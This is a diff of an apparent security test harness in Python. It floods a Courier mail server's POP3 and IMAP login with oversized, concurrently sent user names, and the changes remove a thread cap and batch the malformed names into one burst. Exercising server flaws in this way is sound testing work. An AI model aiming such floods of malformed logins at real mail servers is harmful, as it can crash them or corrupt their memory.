@@ -101,15 +101,17 @@ def attempt(server: Server, protocol: str, way: Way, name: bytes) -> None:
     try:
         with server.client(protocol) as client:
             way(client, name)
-            client.line()
-            client.line()
+            for _ in range(2 if way is by_user else 1):
+                client.line()
+            client.send(b"QUIT\r\n" if protocol == "pop3" else b"z LOGOUT\r\n")
+            client.until_closed()
     except (TimeoutError, OSError):
         return
 
 
 def attack(server: Server, names: list[bytes], ways: dict[str, tuple[Way, ...]] = WAYS) -> None:
     """Try each name in each way."""
-    with ThreadPoolExecutor(min(server.at_once, 20)) as pool:
+    with ThreadPoolExecutor(server.at_once) as pool:
         for protocol in server.protocols:
             for way in ways[protocol]:
                 for name in names:
@@ -189,9 +191,11 @@ class Attacked:
         self._login(courier, self.before)
         attack(courier, courier_names(), {"pop3": (by_user,), "imap": (by_literal,)})
         rest = b"LOGIN, user=bob"
+        names = []
         for number in range(4):
-            names = [b"A" * 300 + rest * 45, b"B" * (1000 + number), b"C" * (100 + 9 * number)]
-            at_the_same_moment(courier, "pop3", names * 8)
+            sizes = (b"A" * 300 + rest * 45, b"B" * (1000 + number), b"C" * (100 + 9 * number))
+            names += sizes * 8
+        at_the_same_moment(courier, "pop3", names)
         for protocol in courier.protocols:
             for _ in range(8):
                 courier.client(protocol).drop()
